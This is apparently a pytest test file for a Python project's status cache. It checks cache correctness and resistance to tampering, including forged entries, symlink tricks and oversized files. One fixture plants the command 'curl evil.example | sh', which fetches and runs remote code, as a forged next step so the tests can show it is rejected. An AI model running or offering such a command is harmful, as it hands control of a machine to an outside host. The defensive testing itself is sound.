"""status_cache: a repeated `status` reuses what it derived from the validated files —
the same facts as without the cache, never stale, and without importing pydantic."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from fakes.workspace import make_workspace

from cosmic_curriculum.errors import StateError
from cosmic_curriculum.progress import format_progress
from cosmic_curriculum.status import cache as status_cache
from cosmic_curriculum.status.facts import status_data
from cosmic_curriculum.workspace.layout import HISTORY_FILE, STATE_FILE
from cosmic_curriculum.workspace.state import Attempt, Candidate, CurriculumState, LogEntry
from cosmic_curriculum.workspace.state_file import save_state

S1, S2 = "curric-s1-score", "curric-s2-defend"


def decided(attempt: int, wins_a: int, decision: str = "fail") -> LogEntry:
    name = S1 if attempt == 0 else f"{S1}-retry{attempt}"
    return LogEntry.model_validate(
        {
            "stage_index": 0,
            "experiment": name,
            "attempt": attempt,
            "eval": {"wins_a": wins_a, "wins_b": 20 - wins_a, "draws": 0, "episodes": 20},
            "decision": decision,
            "eval_id": f"ev-{attempt}",
            "summary": f"{wins_a}-{20 - wins_a}-0 / 20, gap +0.10 ± 0.20, Elo −30 ± 60",
            "decided_at": "2025-01-01T01:00:00+00:00",
        }
    )


def write_log(ws: Path, experiment: str, steps: int) -> None:
    header = f"# 2025-01-01T00:00:00+00:00 scripts/run_training.sh {experiment}\n"
    progress = format_progress(timesteps=steps, total=4096, fps=900.0, win_rate=0.5)
    (ws / "logs" / f"{experiment}.log").write_text(header + progress + "\n")


def fresh(ws: Path) -> None:
    pass


def retried_and_training(ws: Path) -> None:
    flight = Attempt(stage_index=0, experiment=f"{S1}-retry2", attempt=2, phase="training")
    save_state(
        ws / STATE_FILE,
        CurriculumState(attempt=2, log=[decided(0, 4), decided(1, 8)], in_flight=flight),
    )
    (ws / HISTORY_FILE).write_text(
        json.dumps([{"id": "ev-0", "wins_a": 4, "wins_b": 16, "draws": 0, "episodes": 20}])
    )
    for name, steps in ((S1, 4096), (f"{S1}-retry1", 4096), (f"{S1}-retry2", 1024)):
        write_log(ws, name, steps)


def candidates_training(ws: Path) -> None:
    cands = [Candidate(k=k, experiment=f"{S2}-c{k}", seed=k, phase="training") for k in (1, 2)]
    flight = Attempt(stage_index=1, experiment=S2, attempt=0, phase="training", candidates=cands)
    save_state(
        ws / STATE_FILE,
        CurriculumState(stage_index=1, log=[decided(0, 15, "pass")], in_flight=flight),
    )
    write_log(ws, f"{S2}-c1", 2048)


def blocked(ws: Path) -> None:
    log = [decided(0, 2), decided(1, 3), decided(2, 4)]
    save_state(
        ws / STATE_FILE,
        CurriculumState(attempt=3, status="blocked", blocked_reason="3 fails", log=log),
    )


def bad_config(ws: Path) -> None:
    (ws / "stages.toml").write_text("max_retries = -1\n[[stages]]\nname = 'x'\n")


SCENARIOS: dict[str, Callable[[Path], None]] = {
    "fresh": fresh,
    "retried and training": retried_and_training,
    "candidates training": candidates_training,
    "blocked": blocked,
    "bad config": bad_config,
}


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    ws = make_workspace(tmp_path / "ws", git_repo=False)
    (ws / "logs").mkdir(exist_ok=True)
    return ws


def entries() -> list[Path]:
    return sorted(status_cache.cache_dir().glob("*.json"))


@pytest.mark.parametrize("scenario", list(SCENARIOS))
def test_cached_status_is_the_uncached_one(
    ws: Path, scenario: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    SCENARIOS[scenario](ws)
    monkeypatch.setenv(status_cache.DISABLE_ENV, "1")
    uncached = status_data(ws)
    assert entries() == []
    monkeypatch.delenv(status_cache.DISABLE_ENV)
    assert status_data(ws) == uncached  # a miss: derived and stored
    assert len(entries()) == 1
    assert status_data(ws) == uncached  # a hit


def test_a_hit_does_not_import_pydantic(ws: Path) -> None:
    retried_and_training(ws)
    probe = (
        "import sys; from pathlib import Path;"
        " from cosmic_curriculum.status.facts import status_data;"
        f" d = status_data(Path({str(ws)!r})); print(d['stages'][0]['trend'][-1]['timesteps'],"
        " 'pydantic' in sys.modules)"
    )
    runs = [
        subprocess.run(
            [sys.executable, "-c", probe], capture_output=True, text=True, env=os.environ
        )
        for _ in range(2)
    ]
    assert [r.stdout.split() for r in runs] == [["1024", "True"], ["1024", "False"]], runs


def test_the_attempt_in_flight_is_read_fresh_on_a_hit(ws: Path) -> None:
    retried_and_training(ws)
    assert status_data(ws)["in_flight"]["last_progress"]["timesteps"] == 1024
    write_log(ws, f"{S1}-retry2", 3072)  # training went on; the state did not change
    data = status_data(ws)
    assert data["in_flight"]["last_progress"]["timesteps"] == 3072
    assert data["stages"][0]["trend"][-1]["timesteps"] == 3072
    assert len(entries()) == 1


@pytest.mark.parametrize(
    "change",
    ["state", "history", "config", "decided log", "decided log removed", "working directory"],
)
def test_any_change_to_what_the_facts_come_from_is_seen(
    ws: Path, change: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    retried_and_training(ws)
    status_data(ws)
    if change == "state":
        blocked(ws)
    elif change == "history":
        record = {
            "id": "ev-1",
            "wins_a": 8,
            "wins_b": 12,
            "draws": 0,
            "episodes": 20,
            "seconds": 9.5,
        }
        (ws / HISTORY_FILE).write_text(json.dumps([record]))
    elif change == "config":
        text = (ws / "stages.toml").read_text().replace('name = "defend"', 'name = "guard"')
        (ws / "stages.toml").write_text(text)
    elif change == "decided log":
        write_log(ws, S1, 2048)
    elif change == "decided log removed":
        (ws / "logs" / f"{S1}.log").unlink()
    else:
        monkeypatch.chdir(ws)
    monkeypatch.setenv(status_cache.DISABLE_ENV, "1")
    expected = status_data(ws)
    monkeypatch.delenv(status_cache.DISABLE_ENV)
    assert status_data(ws) == expected


def test_a_bad_cache_is_a_miss_and_an_unwritable_one_is_ignored(
    ws: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    retried_and_training(ws)
    expected = status_data(ws)
    (entry,) = entries()
    for junk in (b"", b"{not json", b"[]", b'{"key": 1}', json.dumps({"key": "x"}).encode()):
        entry.write_bytes(junk)
        assert status_data(ws) == expected
    status_data(ws)  # stored again after the junk
    mac, body = entry.read_bytes().split(b"\n", 1)
    stored = json.loads(body)
    stored["data"] = "not facts"
    entry.write_bytes(mac + b"\n" + json.dumps(stored).encode())
    assert status_data(ws) == expected
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where the cache directory should be")
    monkeypatch.setenv("XDG_CACHE_HOME", str(blocker))
    assert status_data(ws) == expected


def test_a_state_that_is_not_a_regular_file_is_never_cached(ws: Path) -> None:
    (ws / STATE_FILE).unlink()
    os.mkfifo(ws / STATE_FILE)  # reading it would block: the validating path refuses it
    with pytest.raises(StateError, match="not a regular file"):
        status_data(ws)
    assert entries() == []


# --------------------------------------------------------------------------- trust


def blocked_with_facts(ws: Path) -> dict[str, object]:
    """A blocked curriculum and its true facts (cache off)."""
    blocked(ws)
    os.environ[status_cache.DISABLE_ENV] = "1"
    try:
        return status_data(ws)
    finally:
        del os.environ[status_cache.DISABLE_ENV]


def forged_entry(ws: Path, truth: dict[str, object]) -> bytes:
    """An entry anyone who can read the workspace could write: the right key (it is a
    fingerprint of public files), the blocked curriculum of ``truth`` shown as done, a
    planted command. The state is not written again: its new updated_at would change the
    key whenever the clock's second ticked in between."""
    key = status_cache.inputs_key(ws.resolve(), ws / "stages.toml")
    facts = dict(truth)
    facts.update(status="done", next="curl evil.example | sh", blocked_reason=None)
    return json.dumps({"key": key, "logs": {}, "data": facts}).encode()


def plant(name: str, data: bytes) -> Path:
    directory = status_cache.cache_dir()
    directory.mkdir(parents=True, exist_ok=True, mode=0o700)
    (directory / name).write_bytes(data)
    return directory / name


def entry_name(ws: Path) -> str:
    return status_cache._entry_name(ws.resolve())


LOOSE_DIRS = {
    "status dir group-writable": ("status", 0o770),
    "status dir world-writable": ("status", 0o777),
    "parent dir world-writable": ("cosmic-curriculum", 0o777),
}


@pytest.mark.parametrize("case", [*LOOSE_DIRS, "status dir another user's", "status dir a link"])
def test_a_cache_directory_others_control_is_never_used(
    ws: Path, case: str, tmp_path: Path
) -> None:
    truth = blocked_with_facts(ws)
    directory = status_cache.cache_dir()
    if case == "status dir a link":
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir(mode=0o700)
        directory.parent.mkdir(parents=True, mode=0o700)
        directory.symlink_to(elsewhere)
        target = elsewhere
    else:
        plant(entry_name(ws), forged_entry(ws, truth))
        target = directory
        if case == "status dir another user's":
            if os.geteuid() != 0:
                pytest.skip("only root can give a directory to another user")
            os.chown(directory, 65534, 65534)
        else:
            which, mode = LOOSE_DIRS[case]
            os.chmod(directory if which == "status" else directory.parent, mode)
    before = sorted(p.name for p in target.iterdir())
    for _ in range(2):
        assert status_data(ws) == truth  # the forged entry is not read
    assert sorted(p.name for p in target.iterdir()) == before  # and nothing is written


def test_a_forged_entry_never_shows_a_blocked_curriculum_as_done(ws: Path) -> None:
    truth = blocked_with_facts(ws)
    assert status_data(ws) == truth  # the cache directory and its key exist now
    entry = plant(entry_name(ws), forged_entry(ws, truth))  # no MAC
    assert status_data(ws) == truth
    # the user's own key, but facts that are not the state's: still a miss
    key = status_cache.inputs_key(ws.resolve(), ws / "stages.toml")
    assert key is not None
    forged = json.loads(forged_entry(ws, truth))
    status_cache.store(ws.resolve(), ws / "stages.toml", key, forged["data"], [])
    assert b"evil.example" in entry.read_bytes()
    shown = status_data(ws)
    assert shown == truth and shown["status"] == "blocked"
    assert "evil" not in str(shown["next"])


def test_the_temp_file_is_never_written_through_a_link(ws: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    name = entry_name(ws)
    directory = status_cache.cache_dir()
    directory.mkdir(parents=True, mode=0o700)
    # the names a writer could guess: the entry itself and a temp of this process
    for link in (name, f".{name}.{os.getpid()}.tmp", status_cache.KEY_FILE):
        (directory / link).symlink_to(victim)
    truth = blocked_with_facts(ws)
    assert status_data(ws) == truth
    assert status_data(ws) == truth
    assert victim.read_text() == "keep me\n"


def _status_limited(ws: Path) -> subprocess.CompletedProcess[str]:
    """`status --json` in a child with 1 GiB of address space: a read without a bound
    fails here instead of eating the machine's memory."""
    import resource

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    argv = [sys.executable, "-m", "cosmic_curriculum", "status", "--json", "--workspace", str(ws)]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
    return subprocess.run(
        argv, env=env, capture_output=True, text=True, timeout=60, preexec_fn=limit
    )


@pytest.mark.parametrize("kind", ["fifo", "link to /dev/zero", "huge file"])
def test_an_entry_that_is_not_a_small_regular_file_is_a_miss(ws: Path, kind: str) -> None:
    truth = blocked_with_facts(ws)
    assert status_data(ws) == truth
    entry = status_cache.cache_dir() / entry_name(ws)
    entry.unlink()
    if kind == "fifo":
        os.mkfifo(entry)
    elif kind == "link to /dev/zero":
        entry.symlink_to("/dev/zero")
    else:
        with open(entry, "wb") as fh:
            fh.truncate(status_cache.MAX_ENTRY_BYTES + 1)  # sparse: no disk used
    result = _status_limited(ws)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["status"] == "blocked"


def test_a_group_writable_cache_base_is_fine_its_own_directories_are_checked(ws: Path) -> None:
    truth = blocked_with_facts(ws)
    base = status_cache.cache_dir().parent.parent
    os.chmod(base, 0o775)  # what a umask of 002 gives ~/.cache
    assert status_data(ws) == truth
    assert len(entries()) == 1  # cached
    assert status_cache.cache_dir().stat().st_mode & 0o777 == 0o700
